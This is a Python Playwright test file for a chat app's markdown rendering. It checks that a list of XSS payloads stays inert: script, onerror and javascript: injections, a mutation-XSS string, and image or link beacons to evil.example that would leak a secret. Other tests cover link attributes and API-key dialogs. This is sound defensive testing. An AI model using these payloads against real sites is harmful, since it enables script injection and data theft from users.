"""Nothing that a model or a file says becomes code, and nothing is loaded from anywhere else."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tests.page.page_steps import answer_with, import_conversation, say, settled

CORPUS = [
    "<script>window.pwned = 1</script>",
    "<img src=x onerror='window.pwned = 1'>",
    "<svg onload='window.pwned = 1'></svg>",
    "<svg><script>window.pwned = 1</script></svg>",
    "<iframe src='javascript:window.parent.pwned = 1'></iframe>",
    "<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.pwned=1&gt;'>",
    "<details open ontoggle='window.pwned = 1'>x</details>",
    "<a href='javascript:window.pwned = 1'>click</a>",
    "<form action='https://evil.example/'><input name=a><button>go</button></form>",
    "<style>body { display: none }</style>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<object data='https://evil.example/'></object><embed src='https://evil.example/'>",
    "<div id=app style='position:fixed;inset:0'>over all</div>",
    "[click](javascript:window.pwned=1)",
    "[click](JaVaScRiPt:window.pwned=1)",
    "[click](java\nscript:window.pwned=1)",
    "[click](data:text/html,<script>window.pwned=1</script>)",
    "[click](vbscript:window.pwned=1)",
    "[click](&#106;avascript:window.pwned=1)",
    "[click](https://evil.example/ \"' onmouseover='window.pwned=1\")",
    "![x](https://evil.example/leak.png?secret)",
    "![x](//evil.example/leak.png)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5wd25lZD0xIi8+)",
    '![x" onerror="window.pwned=1](data:image/png;base64,AAAA)',
    "![a][r]\n\n[r]: https://evil.example/leak.png",
    "<javascript:window.pwned=1>",
    "```html\n<script>window.pwned = 1</script>\n```",
    '```"><img src=x onerror=window.pwned=1>\ncode\n```',
    "`<img src=x onerror=window.pwned=1>`",
    "| <img src=x onerror=window.pwned=1> |\n|---|\n| <b onclick='window.pwned=1'>x</b> |",
    "&lt;script&gt;window.pwned = 1&lt;/script&gt;",
    "- [x] <input onfocus='window.pwned=1' autofocus>",
]
ALLOWED_TAGS = frozenset(
    {"P", "BR", "HR", "STRONG", "EM", "DEL", "CODE", "PRE", "BLOCKQUOTE", "UL", "OL", "LI", "A", "IMG", "DIV", "SPAN"}
    | {"H3", "H4", "H5", "H6", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "BUTTON"}
)
SURVEY = """() => [...document.querySelectorAll(".markdown *")].map((element) => ({
    tag: element.tagName,
    attributes: Object.fromEntries([...element.attributes].map(({ name, value }) => [name, value])),
}))"""


def check_inert(page: Any, address: str) -> None:
    page.wait_for_timeout(150)
    assert page.evaluate("window.pwned") is None
    assert page.trouble == []
    assert [url for url in page.requested if not url.startswith((address, "data:", "blob:"))] == []
    for element in page.evaluate(SURVEY):
        attributes = element["attributes"]
        assert element["tag"] in ALLOWED_TAGS
        assert set(attributes) <= {"href", "src", "alt", "start", "align", "class", "rel", "target", "tabindex", "type"}
        assert attributes.get("href", "https:").split(":")[0] in {"https", "http", "mailto"}
        assert attributes.get("src", "data:image/png").startswith("data:image/")


def test_corpus_is_inert_when_it_is_loaded(page: Any, quire: Any, tmp_path: Path) -> None:
    contents = [content for text in CORPUS for content in (text, text)]
    import_conversation(page, tmp_path, "<img src=x onerror=window.pwned=1>", *contents)
    check_inert(page, quire.address)
    page.evaluate("document.querySelectorAll('.markdown a:not([href^=http])').forEach((link) => link.click())")
    assert page.evaluate("window.pwned") is None


@pytest.mark.parametrize("size", [1, 5])
def test_corpus_is_inert_while_it_streams(page: Any, quire: Any, size: int) -> None:
    text = "\n\n".join(CORPUS)
    answer_with(page, *[text[at : at + size] for at in range(0, len(text), size)])
    say(page, "Attack.")
    settled(page)
    check_inert(page, quire.address)


def test_links_tell_the_other_site_nothing(page: Any) -> None:
    answer_with(page, "[there](https://example.com/) and ![picture](https://example.com/x.png)")
    say(page, "Link.")
    settled(page)
    links = page.locator(".message.assistant .text a")
    assert links.all_inner_texts() == ["there", "[picture]"]
    assert links.first.get_attribute("rel") == "noopener noreferrer nofollow"
    assert links.first.get_attribute("target") == "_blank"
    assert page.locator(".message.assistant img").count() == 0


def test_picture_inside_the_text_is_shown(page: Any) -> None:
    dot = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
    answer_with(page, f"![dot](data:image/png;base64,{dot})")
    say(page, "Draw.")
    settled(page)
    assert page.evaluate("document.querySelector('.message.assistant img').naturalWidth") == 1


def test_key_that_may_not_watch_can_be_replaced(page: Any) -> None:
    refusal = '{"error": {"message": "The key lacks the scope.", "type": "x", "param": null, "code": "x"}}'
    page.route(
        "**/v1/live",
        lambda route: (
            route.continue_()
            if route.request.headers.get("authorization") == "Bearer sk-new"
            else route.fulfill(status=403, body=refusal)
        ),
    )
    page.keyboard.press("Alt+Digit3")
    page.get_by_role("button", name="Use another key").click()
    page.get_by_role("dialog", name="API key").get_by_label("Key").fill("sk-new")
    page.keyboard.press("Enter")
    page.locator(".blocks canvas").wait_for()


def test_another_key_is_asked_for_and_sent(page: Any) -> None:
    refusal = (
        '{"error": {"message": "This server needs an API key.", "type": "x", "param": null, "code": "invalid_api_key"}}'
    )
    keys: list[str | None] = []

    def guard(route: Any) -> None:
        key = route.request.headers.get("authorization")
        keys.append(key)
        route.continue_() if key == "Bearer sk-new" else route.fulfill(status=401, body=refusal)

    page.route("**/v1/**", guard)
    say(page, "Hello.")
    dialog = page.get_by_role("dialog", name="API key")
    dialog.get_by_label("Key").fill("sk-new")
    page.keyboard.press("Enter")
    dialog.wait_for(state="detached")
    page.get_by_role("button", name="Try again").click()
    settled(page)
    assert keys[-1] == "Bearer sk-new"
